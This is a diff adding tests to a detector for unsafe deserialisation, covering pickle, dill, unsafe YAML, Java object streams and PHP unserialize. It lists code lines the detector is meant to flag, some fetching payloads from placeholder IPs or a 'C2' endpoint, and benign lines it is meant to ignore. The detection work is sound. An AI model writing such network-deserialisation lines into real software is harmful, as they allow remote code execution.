@@ -470,3 +470,37 @@ describe("code_execution: Windows and Active Directory attack tooling (1.4.0)", 
     expect(codeRules(text)).toEqual([]);
   });
 });
+
+describe("code_execution: deserialising bytes from the network (1.5.0)", () => {
+  it.each([
+    ["pickle from a URL", `import pickle, requests\nobj = pickle.loads(requests.get("http://203.0.113.9/payload.pkl").content)`, "deserialize.fetched"],
+    ["pickle from urlopen", `from urllib.request import urlopen\nstate = pickle.load(urlopen("https://cdn.example.net/state.bin"))`, "deserialize.fetched"],
+    ["pickle from a socket", `while True:\n    task = pickle.loads(conn.recv(65536))\n    task()`, "deserialize.fetched"],
+    ["base64 pickle from a URL", `cPickle.loads(base64.b64decode(requests.get(url).text))`, "deserialize.fetched"],
+    ["dill via httpx", `fn = dill.loads(httpx.get(C2 + "/next").content)`, "deserialize.fetched"],
+    ["yaml unsafe_load of a download", `cfg = yaml.unsafe_load(requests.get(CONFIG_URL).text)`, "deserialize.fetched"],
+    ["yaml.load with the full Loader", `cfg = yaml.load(urlopen(url).read(), Loader=yaml.Loader)`, "deserialize.fetched"],
+    ["Java stream from a URL", `ObjectInputStream in = new ObjectInputStream(new URL("http://10.0.0.7/obj").openStream());`, "deserialize.fetched"],
+    ["Java stream from a socket", `ObjectInputStream ois = new ObjectInputStream(client.getInputStream());\nObject o = ois.readObject();`, "deserialize.fetched"],
+    ["PHP unserialize of a cookie", `<?php $prefs = unserialize(base64_decode($_COOKIE['prefs'])); ?>`, "deserialize.fetched"],
+    ["PHP unserialize of a download", `$data = unserialize(file_get_contents("http://198.51.100.3/o.txt"));`, "deserialize.fetched"],
+    ["fetched, then unpickled", `blob = requests.get(MODEL_URL).content\nmodel = pickle.loads(blob)`, "download_exec.fetched_variable"],
+  ])("detects %s", (_name, text, rule) => {
+    expect(codeRules(text)).toContain(`code_execution.${rule}`);
+  });
+
+  it.each([
+    `with open("model.pkl", "rb") as f:\n    model = pickle.load(f)`,
+    `cache = pickle.loads(redis_client.get(key))`,
+    `cfg = yaml.safe_load(requests.get(CONFIG_URL).text)`,
+    `cfg = yaml.load(requests.get(CONFIG_URL).text, Loader=yaml.SafeLoader)`,
+    `payload = json.loads(requests.get(url).content)`,
+    `data = joblib.load("artifacts/model.joblib")`,
+    `ObjectInputStream in = new ObjectInputStream(new FileInputStream("state.ser"));`,
+    `$config = unserialize(file_get_contents(__DIR__ . "/cache.bin"));`,
+    "Never call pickle.loads on data from the network: unpickling runs arbitrary code. Use JSON instead.",
+    `blob = requests.get(MODEL_URL).content\nmodel = json.loads(blob)`,
+  ])("stays quiet on %s", (text) => {
+    expect(codeRules(text)).toEqual([]);
+  });
+});
